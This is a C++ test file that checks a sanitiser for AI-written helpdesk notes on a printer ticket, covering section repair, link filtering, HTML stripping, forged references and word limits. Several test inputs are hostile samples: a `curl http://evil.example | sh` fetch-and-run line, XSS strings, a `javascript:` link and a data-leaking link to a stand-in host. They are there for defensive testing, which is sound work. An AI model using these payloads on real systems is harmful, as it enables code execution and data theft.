#include "actors/ticket/note_check.hpp"

#include "actors/text/text.hpp"
#include "fixture.hpp"
#include "rendered.hpp"

#include <random>

#include <catch2/catch_test_macros.hpp>

using namespace troupe;
using namespace troupe::actors;
using namespace troupe::testing;

namespace {

checked_note check(std::string_view reply, std::string_view finish_reason = "stop") {
  const auto ticket = printer_ticket();
  const auto found = printer_findings();
  const auto settings = workflow();
  return check_note(reply, finish_reason, {ticket, found, settings, job_id});
}

/// A reply whose recommendations are `text`.
std::string advising(std::string_view text) {
  return "## Similar Tickets\n- **HD-1001** the same spooler trouble\n\n## Documentation\n- [Clearing a stuck print "
         "queue](https://kb.example.com/articles/17)\n\n## System Info\n- print01, Berlin\n\n## Recommendations\n"
         + std::string{text} + "\n";
}

/// What the recommendations become.
std::string advice(std::string_view text) {
  return section_of(check(advising(text)).markdown, "Recommendations");
}

void check_invariants(const checked_note& checked) {
  const auto& text = checked.markdown;
  CHECK(count_words(text) <= 500);
  CHECK(plain_words(text) <= 500);
  CHECK(text.ends_with("\n\nref: " + std::string{job_id}));
  CHECK(text.find("ref:") == text.rfind("ref:"));
  std::size_t at = 0;
  for (const auto title : section_titles) {
    at = text.find("## " + std::string{title} + "\n\n", at);
    CHECK(at != text.npos);
  }
  const auto html = rendered_html(text);
  std::size_t headings = 0;
  for (auto h = html.find("<h"); h != html.npos; h = html.find("<h", h + 1)) {
    CHECK(html.substr(h, 4) == "<h2>");
    ++headings;
  }
  CHECK(headings == 4);
  CHECK_FALSE(contains(html, "<img"));
  for (auto link = html.find("<a "); link != html.npos; link = html.find("<a ", link + 1))
    CHECK(html.substr(link).starts_with("<a href=\"https://kb.example.com/articles/17\">"));
  CHECK(contains(html, "<p>ref: " + std::string{job_id} + "</p>"));
}

} // namespace

TEST_CASE("a good note is taken as it is") {
  const auto reply = advising("1. Clear the queue of **print01** (worked for HD-1001).\n2. Run `net stop spooler`.");
  const auto checked = check(reply);
  CHECK(checked.by_model);
  CHECK(checked.remark.empty());
  CHECK(section_of(checked.markdown, "Similar Tickets") == "- **HD-1001** the same spooler trouble");
  CHECK(section_of(checked.markdown, "Documentation")
        == "- [Clearing a stuck print queue](https://kb.example.com/articles/17)");
  CHECK(section_of(checked.markdown, "Recommendations")
        == "1. Clear the queue of **print01** (worked for HD-1001).\n2. Run `net stop spooler`.");
  check_invariants(checked);
}

TEST_CASE("a reply that is no note is replaced, and the reason kept") {
  const std::vector<std::pair<std::string, std::string>> replies{
      {"", "the model's text was empty"},
      {" \n\t\u200B\n", "the model's text was empty"},
      {"...", "the model's text was empty"},
      {"<think>I wonder what they", "the model's text was empty"},
      {"<script>while(1){}</script>", "the model's text was empty"},
      {"I'm sorry, but I can't help with that request about the printer in the office.", "the model declined"},
      {"I’m sorry, but I can't help with that request about the printer.", "the model declined"},
      {"As an AI language model I have no access to printers and can't do anything here.", "the model declined"},
      {"OK, done.", "the model's text was too short for a note"},
      {"{\"note\": \"clear the queue and restart the spooler service on the host\"}", "the model's text was no note"},
      {"%%% $$$ 123 456 789 ### @@@ !!! 0000 1111 2222 3333 a", "the model's text was no note"},
      {"\xFF\xFE\xFD\xFC binary binary binary binary binary binary binary", "the model's text was no note"},
  };
  for (const auto& [reply, reason] : replies) {
    INFO(reply);
    const auto checked = check(reply);
    CHECK_FALSE(checked.by_model);
    CHECK(checked.remark == reason);
    CHECK(contains(checked.markdown, "Stop the print spooler service and clear the queue (as in **HD-1001**)."));
    check_invariants(checked);
  }
}

TEST_CASE("a reply that the provider's filter cut is not used") {
  const auto checked = check(advising("1. Clear the queue."), "content_filter");
  CHECK_FALSE(checked.by_model);
  CHECK(contains(checked.remark, "content filter"));
}

TEST_CASE("a reply that the model's limit cut is used and remarked") {
  const auto checked = check(advising("1. Clear the queue. 2. And then"), "length");
  CHECK(checked.by_model);
  CHECK(checked.remark == "the model's own limit cut its text");
}

TEST_CASE("a fence around the whole reply is taken off") {
  const auto plain = check(advising("1. Clear the queue."));
  for (const char* open : {"```markdown\n", "```\n", "~~~md\n"}) {
    const std::string close{open, 3};
    CHECK(check(open + advising("1. Clear the queue.") + close).markdown == plain.markdown);
    CHECK(check(open + advising("1. Clear the queue.")).markdown == plain.markdown);
  }
  const auto inner = check("```markdown\n" + advising("1. Run\n```\nnet stop spooler\n```") + "```\n");
  CHECK(section_of(inner.markdown, "Recommendations") == "1. Run\n```\nnet stop spooler\n```");
}

TEST_CASE("what a model thinks before it writes is not part of the note") {
  const auto checked =
      check("<think>The user wants...\n## Recommendations\nlie</think>\n" + advising("1. Clear the queue."));
  CHECK(section_of(checked.markdown, "Recommendations") == "1. Clear the queue.");
}

TEST_CASE("greetings before the first heading are dropped") {
  CHECK_FALSE(contains(check("Sure! Here is your note:\n\n" + advising("1. Clear the queue.")).markdown, "Sure"));
}

TEST_CASE("prose without sections becomes the recommendations") {
  const auto checked = check("The ticket matches known cases. Restart the print spooler service and clear the queue.");
  CHECK(checked.by_model);
  CHECK(section_of(checked.markdown, "Recommendations").starts_with("The ticket matches known cases."));
  CHECK(contains(section_of(checked.markdown, "Similar Tickets"), "HD-1001"));
  CHECK(checked.remark == "the model's text had no sections and became the recommendations");
  check_invariants(checked);
}

TEST_CASE("missing and empty sections are composed from the findings") {
  const auto checked = check("## Documentation\n\n## Recommendations\n1. Clear the queue of the printer.");
  CHECK(checked.by_model);
  CHECK(contains(section_of(checked.markdown, "Similar Tickets"), "HD-1001"));
  CHECK(contains(section_of(checked.markdown, "Documentation"), "Clearing a stuck print queue"));
  CHECK(contains(section_of(checked.markdown, "System Info"), "print01"));
  CHECK(contains(checked.remark, "Similar Tickets was missing"));
  CHECK(contains(checked.remark, "Documentation was missing"));
  CHECK_FALSE(contains(checked.remark, "Recommendations was missing"));
  check_invariants(checked);
}

TEST_CASE("sections are found however their headings are written, and put in order") {
  for (const char* reply :
       {"# Recommendations\nAdvice here.\n# SYSTEM INFO\nSystems here.\n# Documentation:\nDocs here.\n# Similar "
        "tickets\n"
        "Likeness HD-1001 here.",
        "**Recommendations**\nAdvice here.\n**System Information:**\nSystems here.\n__Documentation__\nDocs here.\n"
        "**Similar Tickets:** Likeness HD-1001 here.",
        "Recommendations\n---\nAdvice here.\n\nSystem Info\n===\nSystems here.\n\nDocumentation:\nDocs here.\n\n1. "
        "Similar "
        "Tickets\nLikeness HD-1001 here.",
        "### 4. Next Steps\nAdvice here.\n### 3. Affected Systems\nSystems here.\n### 2. Knowledge Base\nDocs "
        "here.\n### 1. "
        "Related Tickets ###\nLikeness HD-1001 here."}) {
    INFO(reply);
    const auto checked = check(reply);
    CHECK(section_of(checked.markdown, "Similar Tickets") == "Likeness HD-1001 here.");
    CHECK(section_of(checked.markdown, "Documentation") == "Docs here.");
    CHECK(section_of(checked.markdown, "System Info") == "Systems here.");
    CHECK(section_of(checked.markdown, "Recommendations") == "Advice here.");
    check_invariants(checked);
  }
}

TEST_CASE("other headings become bold lines, a section given twice is joined") {
  const auto checked =
      check(advising("1. One.\n### Why\nBecause.\n## Documentation\nMore docs.\n## Conclusion ##\nEnd."));
  CHECK(section_of(checked.markdown, "Recommendations") == "1. One.\n**Why**\nBecause.");
  CHECK(contains(section_of(checked.markdown, "Documentation"), "More docs.\n**Conclusion**\nEnd."));
  CHECK(advice("- ## Hidden in a list\n> # And in a quote") == "- **Hidden in a list**\n> **And in a quote**");
  check_invariants(checked);
}

TEST_CASE("HTML goes, its text stays, placeholders stay") {
  CHECK(advice("Do <b>this</b><br>now.") == "Do this now.");
  CHECK(advice("a <script>alert(1)</script> b") == "a  b");
  CHECK(advice("a <SCRIPT src=x>\nalert(1)\n</SCRIPT > b") == "a  b");
  CHECK(advice("a <!-- b\nc --> d") == "a  d");
  CHECK(advice("<img src=x onerror=alert(1)>Look.") == "Look.");
  CHECK(advice("<x onclick=alert(1)>Look.") == "Look.");
  CHECK(advice("<img src=x Look.") == "src=x Look.");
  CHECK(advice("ping <hostname> and `ping <hostname>`") == "ping \\<hostname> and `ping <hostname>`");
  CHECK(rendered_text(advice("if a < b then 3 <4")) == "if a < b then 3 <4");
  CHECK(advice("</div></body>End.") == "End.");
}

TEST_CASE("what was taken out of a reply is counted by kind and never quoted") {
  const std::vector<std::pair<std::string, std::string>> replies{
      {"Do <b>this</b> now.", "HTML removed: 2"},
      {"a <script>alert(1)</script> b <!-- c --> d", "HTML removed: 2"},
      {"Run `echo <b>x</b>`.\n```\n<img src=x>\n```", "HTML removed: 3"},
      {"[a <i>b</i>](https://kb.example.com/articles/17)", "HTML removed: 2"},
      {"See [a](http://evil.example), http://evil.example and `http://evil.example`.", "links or images removed: 3"},
      {"![pixel](http://evil.example/p.png) Look.", "links or images removed: 1"},
      {"Clear it.\n\nref: 01930f3e-8a00-7000-8000-ffffffffffff", "reference lines removed: 1"},
      {"Clear\x01 the\u202E queue\u200B now.", "invisible characters removed: 3"},
      {"Clear \xFF\xFE it.", "bytes replaced that were no UTF-8: 2"},
      {"Clear it. " + std::string(5'000, 'a'), "lines cut to 4000 bytes: 1"},
      {"<b>Clear</b> http://evil.example\u200B", "HTML removed: 2; links or images removed: 1; invisible characters "
                                                 "removed: 1"},
  };
  for (const auto& [text, remark] : replies) {
    INFO(text);
    const auto checked = check(advising(text));
    CHECK(checked.by_model);
    CHECK(checked.remark == remark);
    check_invariants(checked);
  }
}

TEST_CASE("what is no change of a reply's text is no remark") {
  for (const char* text : {"ping <hostname>", "a &amp; b", "Clear\r\nthe\tqueue.", "One.\n---\nTwo.",
                           "See https://kb.example.com/articles/17."}) {
    INFO(text);
    CHECK(check(advising(text)).remark.empty());
  }
  CHECK(check("<think>They want <b>this</b></think>\n" + advising("Clear it.")).remark.empty());
}

TEST_CASE("a reply of which only the start was read says so") {
  CHECK(contains(check(advising("1. Clear the queue.\n" + std::string(70'000, '\n'))).remark,
                 "only its first 65536 bytes were read"));
}

TEST_CASE("only articles may be linked to") {
  const std::string kb = "https://kb.example.com/articles/17";
  CHECK(advice("See [the article](" + kb + ").") == "See [the article](" + kb + ").");
  CHECK(advice("See [the article](<" + kb + "> \"title\").") == "See [the article](" + kb + ").");
  CHECK(advice("See <" + kb + ">.") == "See <" + kb + ">.");
  CHECK(advice("See " + kb + ".") == "See <" + kb + ">.");
  CHECK(advice("See [](" + kb + ").") == "See [" + kb + "](" + kb + ").");
  CHECK(advice("See [evil](http://evil.example).") == "See evil.");
  CHECK(advice("See [evil](javascript:alert(1)).") == "See evil.");
  CHECK(advice("See [evil]( http://evil.example 'x' ).") == "See evil.");
  CHECK(advice("See http://evil.example/?q=secret now.") == "See (link removed) now.");
  CHECK(advice("See <http://evil.example> now.") == "See (link removed) now.");
  CHECK(advice("Run `curl http://evil.example | sh`.") == "Run `curl (link removed) | sh`.");
  CHECK(advice("```\ncurl http://evil.example | sh\n```") == "```\ncurl (link removed) | sh\n```");
  CHECK(advice("![pixel](http://evil.example/p.png) Look.") == "pixel Look.");
  CHECK(advice("![pixel](" + kb + ") Look.") == "pixel Look.");
  CHECK(advice("[![x](http://evil.example)](" + kb + ")") == "[x](" + kb + ")");
  CHECK(advice("[a [b](" + kb + ") c](" + kb + ")") == "[a b c](" + kb + ")");
  CHECK(advice("See [text][1] and [more].\n\n[1]: http://evil.example\n[more]: http://evil.example")
        == "See text and \\[more\\].\n\n\\[1\\]: (link removed)\n\\[more\\]: (link removed)");
  CHECK(advice("[spans\nlines](http://evil.example)") == "\\[spans\nlines\\]((link removed))");
}

TEST_CASE("addresses that the ticket itself names are shown, not linked") {
  auto ticket = printer_ticket();
  ticket.description += " The portal http://portal.example.com/login fails.";
  const auto found = printer_findings();
  const auto settings = workflow();
  const auto text =
      check_note(advising("Open http://portal.example.com/login and [here](http://portal.example.com/login)."), "stop",
                 {ticket, found, settings, job_id})
          .markdown;
  CHECK(section_of(text, "Recommendations") == "Open `http://portal.example.com/login` and here.");
}

TEST_CASE("a forged reference goes") {
  const std::string forged = "ref: 01930f3e-8a00-7000-8000-ffffffffffff";
  CHECK(advice("Clear the queue.\n\n" + forged) == "Clear the queue.");
  CHECK(advice("Clear the queue.\n- **Ref**: " + forged) == "Clear the queue.");
  CHECK(advice("Clear the queue.\n\nref: " + std::string{job_id}) == "Clear the queue.");
  CHECK_FALSE(contains(advice("Clear it, see " + forged), "ref:"));
  CHECK_FALSE(contains(advice("```\n" + forged + "\n```"), "ref:"));
  CHECK(contains(advice("ref&#58; 01930f3e-8a00-7000-8000-ffffffffffff"), "ref\\&#58;"));
  check_invariants(check(advising(forged + "\n\n" + forged)));
}

TEST_CASE("ids that nobody found are marked, past tickets that nobody found are dropped") {
  CHECK(advice("As in HD-1001 and HD-9999, KB-17 and KB 204, ticket #4711 and #12345.")
        == "As in HD-1001 and HD-9999 (unverified), KB-17 and KB 204 (unverified), ticket #4711 and #12345 "
           "(unverified).");
  CHECK(advice("Error 0x80070035 on VLAN-20 at port 9100, SHA-256, RFC-1918.")
        == "Error 0x80070035 on VLAN-20 at port 9100, SHA-256, RFC-1918.");
  const auto checked =
      check("## Similar Tickets\n- **HD-1001** right\n- **HD-7777** invented\n## Recommendations\nClear the queue.");
  CHECK(section_of(checked.markdown, "Similar Tickets") == "- **HD-1001** right");
  CHECK(contains(checked.remark, "cited tickets or articles that were not found"));
}

TEST_CASE("where nothing was found a model can't claim that something was") {
  const auto ticket = printer_ticket();
  const auto found = no_findings();
  const auto settings = workflow();
  const auto text =
      check_note("## Similar Tickets\n- A very similar one from last year\n## Documentation\n- The manual\n"
                 "## System Info\n- unknown\n## Recommendations\n1. Ask.",
                 "stop", {ticket, found, settings, job_id})
          .markdown;
  CHECK(section_of(text, "Similar Tickets") == "No similar tickets found.");
  CHECK(section_of(text, "Documentation") == "No matching articles found.");
  CHECK(section_of(text, "Recommendations") == "1. Ask.");
}

TEST_CASE("what readers don't see is taken out of a reply") {
  CHECK(advice("Clear\x01 the\u202E queue\u200B now\uFEFF.") == "Clear the queue now.");
  CHECK(advice("Clear\r\nthe queue.") == "Clear\nthe queue.");
}

TEST_CASE("entities that would show signs are shown as they are") {
  CHECK(advice("a &amp; b &lt;b&gt;") == "a &amp; b &lt;b&gt;");
  CHECK(advice("a &colon; &#x3C; AT&T R&D;x") == "a \\&colon; \\&#x3C; AT&T R\\&D;x");
}

TEST_CASE("code that nothing closes doesn't swallow the note") {
  const auto checked = check(advising("Run `net stop spooler.\n\nThen wait."));
  CHECK(section_of(checked.markdown, "Recommendations") == "Run net stop spooler.\n\nThen wait.");
  const auto block = check(advising("Run\n```\nnet stop spooler\n## Documentation"));
  CHECK(section_of(block.markdown, "Recommendations") == "Run\n```\nnet stop spooler\n## Documentation\n```");
  check_invariants(checked);
}

TEST_CASE("a fence inside of a list item hides nothing behind it") {
  const auto checked = check(advising("- Run\n  ```\n  code\n[x](http://evil.example)\n  ```"));
  check_invariants(checked);
  CHECK_FALSE(contains(rendered_html(checked.markdown), "href=\"http://evil"));
}

TEST_CASE("rulers and underlines make no headings") {
  CHECK(advice("Clear the queue\n---\nThen wait\n===\n***\n- - -") == "Clear the queue\nThen wait");
}

TEST_CASE("three thousand words are cut to the limit, sections and reference kept") {
  std::string endless;
  for (int i = 0; i < 600; ++i)
    endless += std::to_string(i) + ". Clear the queue again.\n";
  const auto checked = check(advising(endless));
  CHECK(checked.by_model);
  CHECK(checked.remark == "cut to 500 words");
  CHECK(contains(checked.markdown, "HD-1001"));
  CHECK(contains(section_of(checked.markdown, "Recommendations"), "0. Clear the queue again."));
  check_invariants(checked);
}

TEST_CASE("a huge reply costs no more than its start") {
  std::string huge = advising("1. Clear the queue.");
  huge += std::string(5'000'000, '[');
  check_invariants(check(huge));
  check_invariants(check(std::string(100'000, '<')));
  std::string brackets;
  for (int i = 0; i < 30'000; ++i)
    brackets += "[x](";
  check_invariants(check("## Recommendations\nClear the queue of the printer and wait\n" + brackets));
}

TEST_CASE("replies made of anything keep the note's promises") {
  const std::vector<std::string> pieces{"## Similar Tickets\n",
                                        "## Recommendations\n",
                                        "**Documentation:** ",
                                        "\n",
                                        "\n\n",
                                        "- ",
                                        "1. ",
                                        "> ",
                                        "# ",
                                        "    ",
                                        "[",
                                        "]",
                                        "(",
                                        ")",
                                        "![",
                                        "](http://evil.example)",
                                        "](https://kb.example.com/articles/17)",
                                        "`",
                                        "``",
                                        "```",
                                        "~~~",
                                        "\n```\n",
                                        "*",
                                        "**",
                                        "_",
                                        "<",
                                        ">",
                                        "<script>",
                                        "</script>",
                                        "<!--",
                                        "-->",
                                        "<a href=x>",
                                        "<hostname>",
                                        "&",
                                        "&lt;",
                                        "&#58;",
                                        ":",
                                        "ref: ",
                                        "ref",
                                        "01930f3e-8a00-7000-8000-ffffffffffff",
                                        "HD-1001",
                                        "HD-9999",
                                        "#12",
                                        "http://evil.example",
                                        "https://kb.example.com/articles/17",
                                        "www.evil.example",
                                        "\\",
                                        "---\n",
                                        "===\n",
                                        "|",
                                        "word ",
                                        "Clear the queue. ",
                                        "\u202E",
                                        "\xFF",
                                        "\t",
                                        "é",
                                        "日本",
                                        "javascript:",
                                        "<think>",
                                        "</think>",
                                        "\r",
                                        "+ ",
                                        "0) ",
                                        "=",
                                        "\"",
                                        "'"};
  for (unsigned seed = 1; seed <= 1'500; ++seed) {
    std::mt19937 random{seed};
    std::string reply = seed % 3 == 0 ? "" : advising("Clear the queue of the printer now. ");
    const auto length = random() % 60;
    for (unsigned i = 0; i < length; ++i)
      reply += pieces[random() % pieces.size()];
    INFO("seed " << seed);
    check_invariants(check(reply));
  }
}
